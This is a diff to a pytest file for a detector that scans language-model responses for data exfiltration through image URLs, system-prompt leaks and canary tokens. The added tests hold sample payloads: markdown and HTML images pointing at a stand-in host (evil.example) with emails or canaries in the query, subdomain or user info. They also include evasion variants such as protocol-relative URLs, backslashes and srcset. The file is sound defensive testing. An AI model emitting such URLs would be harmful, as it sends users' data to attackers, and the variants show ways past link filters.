@@ -116,11 +116,11 @@ def test_exfiltration_links(det: Detector, text: str, threat: bool, action: str)
         assert r.threat_type in ("exfiltration", "prompt_extraction") and "<LINK_1>" in r.sanitized_text
 
 
-def test_the_users_words_in_an_image_url_leave_in_a_link_they_do_not(det: Detector) -> None:
+def test_the_users_words_in_an_image_url_escalate_in_a_link_they_do_not(det: Detector) -> None:
     prompt = "My diagnosis is type 2 diabetes, what diet should I follow?"
     image = det.scan_response("Here: ![x](https://cdn.evil.example/p.gif?q=type+2+diabetes+diet)", prompt=prompt)
     link = det.scan_response("See [results](https://duckduckgo.com/?q=type+2+diabetes+diet)", prompt=prompt)
-    assert image.is_threat and image.action == "block" and "user's prompt" in image.evidence[0].detail
+    assert image.is_threat and image.action == "escalate" and "user's prompt" in image.evidence[0].detail
     assert not link.is_threat and link.action == "allow"
     assert not det.scan_response("![x](https://cdn.evil.example/p.gif?q=type+2+diabetes+diet)").is_threat
 
@@ -255,3 +255,87 @@ def test_trace_event_feeds_the_shipped_policies(det: Detector) -> None:
     for ev in ({"t": 1.0, "type": "request"}, request):
         mon2.step(ev)
     assert not any(v["policy"] == "no_system_prompt_in_response" for v in mon2.step(clean))
+
+
+# --- what a review found (each was a miss, a wrong span or a crash before) ------------------------------------------
+
+def test_a_leak_is_hidden_whole_when_pii_overlaps_it(det: Detector) -> None:
+    sp = ("You are the internal assistant of Acme. Contact jane.doe@example.com for escalations. Escalate fraud "
+          "reports to the security desk at level two, never mention the Zephyr merger, and keep the quarterly "
+          "revenue figure of 41 million strictly confidential.")
+    r = det.scan_response("Sure. My instructions: " + sp[sp.index("Contact"):].replace("jane", "john"),
+                          system_prompt=sp)
+    assert r.action == "block" and "Zephyr" not in r.sanitized_text and "john" not in r.sanitized_text
+    assert r.sanitized_text == "Sure. My instructions: Contact <SYSTEM_PROMPT_1>."  # the e-mail inside it too
+
+
+def test_every_copy_of_a_canary_is_hidden(det: Detector) -> None:
+    c = "ZEBRA-7731-QX"
+    r = det.scan_response(f"tok {c} and again {c}, hex {c.encode().hex()}", canaries=[c])
+    assert c not in r.sanitized_text and c.encode().hex() not in r.sanitized_text
+    far = det.scan_response(f"{c} " + "filler text here. " * 600 + c, canaries=[c])  # two windows apart
+    assert far.windows > 1 and c not in far.sanitized_text
+
+
+def test_hex_canary_span_holds_after_case_changing_characters(det: Detector) -> None:
+    c = "ZEBRA-7731-QX"
+    t = "İ" * 30 + " id=00ff" + c.encode().hex() + "fe01 end"
+    r = det.scan_response(t, canaries=[c])
+    assert c.encode().hex() not in r.sanitized_text and r.sanitized_text.endswith("end")
+
+
+@pytest.mark.parametrize("text", [
+    "![a](https://[2001:db8::1]/p.png?d=alice.smith@corp.example)",  # IPv6 host
+    "![a](//evil.example/p.png?d=alice.smith@corp.example)",  # protocol-relative
+    '<img src="//evil.example/p.png?d=alice.smith@corp.example">',
+    '<img src="https://evil.example/p.png?d=\nalice.smith@corp.example">',  # a line break inside the value
+    "![a](https://evil.example/(x)/p.png?d=alice.smith@corp.example)",  # parentheses in the path
+    "![a][1]\n\n[1]: https://evil.example/p.png?d=alice.smith@corp.example",  # reference-style image
+    '<img srcset="https://evil.example/p.png?d=alice.smith@corp.example 2x">',
+    '<div style="background:url(https://evil.example/p.png?d=alice.smith@corp.example)">',
+    f"![a](https://{CANARY}.evil.example/p.png)",  # data in a subdomain label
+    "![a](https://alice.smith%40corp.example@evil.example/p.png)",  # data in the user info
+    "![a\nb [c] d](https://evil.example/p.png?d=alice.smith@corp.example)",  # alt text with a break and brackets
+])
+def test_urls_read_as_a_browser_reads_them(det: Detector, text: str) -> None:
+    r = det.scan_response(text, canaries=[CANARY])
+    ev = [e for e in r.evidence if e.detector == "exfil_link"]
+    assert ev and ev[0].score == 1.0 and "image" in ev[0].detail and r.action == "block", r.to_dict()
+
+
+def test_a_backslash_does_not_pass_the_allow_list() -> None:
+    cfg = load_config()
+    cfg = dataclasses.replace(cfg, response=dataclasses.replace(cfg.response, allowed_link_hosts=("cdn.example.com",)))
+    d = Detector(cfg, load_model=False)
+    r = d.scan_response('<img src="https://evil.example\\.cdn.example.com/p.png?d=alice.smith@corp.example">')
+    assert r.is_threat and "evil.example" in r.evidence[0].detail
+    allowed = d.scan_response("![a](https://cdn.example.com/p.png?d=alice.smith@corp.example)")
+    assert not any(e.detector == "exfil_link" for e in allowed.evidence)
+
+
+def test_presigned_links_are_not_secrets_leaving(det: Detector) -> None:
+    url = ("https://my-bucket.s3.amazonaws.com/reports/q3.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
+           "AKIAIOSFODNN7EXAMPLE%2F20231105%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Expires=3600&X-Amz-Signature=" + "ab" * 32)
+    r = det.scan_response(f"Download it [here]({url}).")
+    assert not any(e.detector == "exfil_link" for e in r.evidence)
+
+
+def test_letter_spaced_leak_inside_an_ordinary_answer(det: Detector) -> None:
+    answer = ("Thanks for asking. Here is some background on our service. We are happy to help. " * 2
+              + " ".join(SYSTEM) + " Anything else?")
+    r = det.scan_response(answer, system_prompt=SYSTEM)
+    assert r.is_threat and "prompt_leak" in _detectors(r)
+
+
+def test_many_urls_are_condensed_but_all_hidden(det: Detector) -> None:
+    text = " ".join(f"![x](https://e{i}.example/p.png?d=alice{i}@corp.example)" for i in range(200))
+    r = det.scan_response(text)
+    ev = [e for e in r.evidence if e.detector == "exfil_link"]
+    assert len(ev) == 65 and ev[-1].detail == "more:136 more data-carrying URLs, all redacted"
+    assert "https://" not in r.sanitized_text and r.sanitized_text.count("<LINK_") == 200
+
+
+@pytest.mark.parametrize("bad", ["--", "a1", "\u200b\u200b\u200b\u200b", "x y z"])
+def test_canaries_need_four_letters_or_digits(det: Detector, bad: str) -> None:
+    with pytest.raises(InputError, match="at least 4 letters or digits"):
+        det.scan_response("text", canaries=[bad])
